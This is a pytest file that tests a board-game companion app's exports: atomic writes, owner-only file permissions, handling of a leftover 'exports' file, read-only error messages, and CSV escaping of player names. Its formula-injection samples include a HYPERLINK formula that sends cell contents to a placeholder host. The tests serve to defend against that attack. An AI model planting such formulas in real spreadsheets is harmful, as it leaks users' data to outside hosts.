"""What an export leaves on the disk (issue 20, section 4): every file goes into its
folder, readable by its owner only; the files of one export are all written or none
is, and the sentence says which; a stray file where the folder belongs (the old
*Save game* wrote one named `exports`) neither blocks the next export nor is lost;
and a player's name never reaches a spreadsheet as a formula."""
from __future__ import annotations

import csv
import os
import pathlib
import random
import resource
import signal
import stat
import sys

import pytest

from companion.cli.history import write_files
from companion.errors import CompanionError
from companion.history import export
from companion.history import files as export_files

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from history_steps import play_session, random_history


def _mode(path: pathlib.Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


class _FileSizeLimit:
    """The kernel refuses to let any file grow past `limit` bytes (RLIMIT_FSIZE: the
    write fails with EFBIG), as a nearly full stick refuses the second file."""

    def __init__(self, limit: int):
        self.limit = limit

    def __enter__(self):
        self.old = resource.getrlimit(resource.RLIMIT_FSIZE)
        self.handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (self.limit, self.old[1]))

    def __exit__(self, *exc):
        resource.setrlimit(resource.RLIMIT_FSIZE, self.old)
        signal.signal(signal.SIGXFSZ, self.handler)


def test_a_stick_with_room_for_one_file_gets_neither_and_is_told_so(tmp_path):
    stick = tmp_path / "STICK"
    stick.mkdir()
    files = {"maya-plays.bgsplay": "{}\n", "maya-plays.csv": "x" * 64_000}
    with pytest.raises(CompanionError) as e, _FileSizeLimit(16_000):
        write_files(files, stick)
    assert sorted(os.listdir(stick)) == []  # nothing half-written, no temporary file left
    said = str(e.value)
    assert "Nothing was written" in said and "maya-plays.csv" in said


def test_a_folder_in_the_way_of_the_second_file_takes_the_first_one_back(tmp_path):
    stick = tmp_path / "STICK"
    (stick / "maya-plays.csv").mkdir(parents=True)  # the second file cannot take its place
    with pytest.raises(CompanionError, match="Nothing was written"):
        export_files.save({"maya-plays.bgsplay": "{}\n", "maya-plays.csv": "a,b\n"}, stick)
    assert sorted(os.listdir(stick)) == ["maya-plays.csv"]  # only the folder that was there
    assert not (stick / "maya-plays.bgsplay").exists()


def test_a_failed_export_keeps_the_file_it_would_have_replaced(tmp_path):
    stick = tmp_path / "STICK"
    stick.mkdir()
    (stick / "maya-game-1.jsonl").write_text("the record saved yesterday\n")
    (stick / "maya-game-2.jsonl").mkdir()
    with pytest.raises(CompanionError):
        export_files.save({"maya-game-1.jsonl": "new\n", "maya-game-2.jsonl": "new\n"}, stick)
    assert (stick / "maya-game-1.jsonl").read_text() == "the record saved yesterday\n"


def test_exported_files_and_folders_are_readable_by_their_owner_only(tmp_path):
    old = os.umask(0o022)
    try:
        written = export_files.save({"a.csv": "a\n", "b.bgsplay": "{}"}, tmp_path / "data" / "exports")
    finally:
        os.umask(old)
    assert [p.name for p in written] == ["a.csv", "b.bgsplay"]
    assert _mode(tmp_path / "data" / "exports") == 0o700 and _mode(tmp_path / "data") == 0o700
    assert [_mode(p) for p in written] == [0o600, 0o600]


def test_a_stray_file_named_like_the_folder_is_kept_inside_it_and_blocks_nothing(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "exports").write_text('{"game":"maya"}\n')  # what the old Save game left
    folder, _where = export_files.export_folder(data, mounts=())
    written = export_files.save({"maya-plays.csv": "a\n"}, folder)
    assert folder.is_dir() and written == [folder / "maya-plays.csv"]
    kept = [p for p in folder.iterdir() if p.name != "maya-plays.csv"]
    assert [p.read_text() for p in kept] == ['{"game":"maya"}\n'] and kept[0].suffix == ".jsonl"
    assert _mode(kept[0]) == 0o600


def test_saving_one_game_then_exporting_all_writes_both_into_the_data_folder(journal, toy, tmp_path):
    """As Past games does: Save game (one jsonl), then Export (bgstats and csv)."""
    s = random_history(journal, random.Random(5), count=2)[0]
    folder, _where = export_files.export_folder(tmp_path / "data", mounts=())
    export_files.save({f"maya-game-{s.id}.jsonl": export.jsonl(journal, s.id)}, folder)
    rows = export.select(journal)
    export_files.save({**export.render(journal, "bgstats", rows), **export.render(journal, "csv", rows)}, folder)
    assert sorted(p.suffix for p in folder.iterdir()) == [".bgsplay", ".csv", ".jsonl"]
    assert all(_mode(p) == 0o600 for p in folder.iterdir())


# --- CSV: names are text, never formulas ----------------------------------------------
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"Ana")', "@SUM(1,2)", "+1", "-2"]


def _read_back(journal, folder):
    rows = export.select(journal)
    ((name, text),) = export.render(journal, "csv", rows).items()
    folder.mkdir()
    (folder / name).write_text(text, encoding="utf-8", newline="")
    with open(folder / name, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_a_player_named_like_a_formula_is_text_in_the_csv(journal, tmp_path):
    s = play_session(journal, "maya-madness", FORMULAS[:2], random.Random(1), options={"deck": "full"})
    s2 = play_session(journal, "maya-madness", FORMULAS[2:], random.Random(2), options={"deck": "full"})
    table = _read_back(journal, tmp_path / "out")
    names = {r["player"] for r in table}
    assert names == {"'" + n for n in FORMULAS}
    cells = [c for r in table for c in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {int(r["game_id"]) for r in table} == {s.id, s2.id}


def test_a_negative_score_stays_a_number(journal, toy, tmp_path):
    s = random_history(journal, random.Random(3), count=1)[0]
    row = journal.session(s.id)
    result = dict(row["result"], scores=[-2] + list(row["result"]["scores"][1:]))
    import json

    journal.conn.execute("UPDATE sessions SET result = ?, crc = NULL WHERE id = ?", (json.dumps(result), s.id))
    table = _read_back(journal, tmp_path / "out")
    assert table[0]["score"] == "-2" and float(table[0]["score"]) == -2



def test_a_read_only_stick_is_not_said_to_be_full(tmp_path, monkeypatch):
    """A write-protected stick (or one the kernel turned read-only after an error)
    was told "did not fit (it is read-only). Free some room": the players were sent
    to delete files that were never the problem."""
    import errno

    def refuse(folder, name, text):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(export_files, "_write_temp", refuse)
    stick = tmp_path / "STICK"
    stick.mkdir()
    with pytest.raises(CompanionError) as e:
        export_files.save({"maya-plays.bgsplay": "{}\n", "maya-plays.csv": "x\n"}, stick, "the USB stick STICK")
    said = str(e.value)
    assert said.startswith("Nothing was written to the USB stick STICK: maya-plays.bgsplay could not be written")
    assert "it is read-only" in said
    assert "fit" not in said and "room" not in said
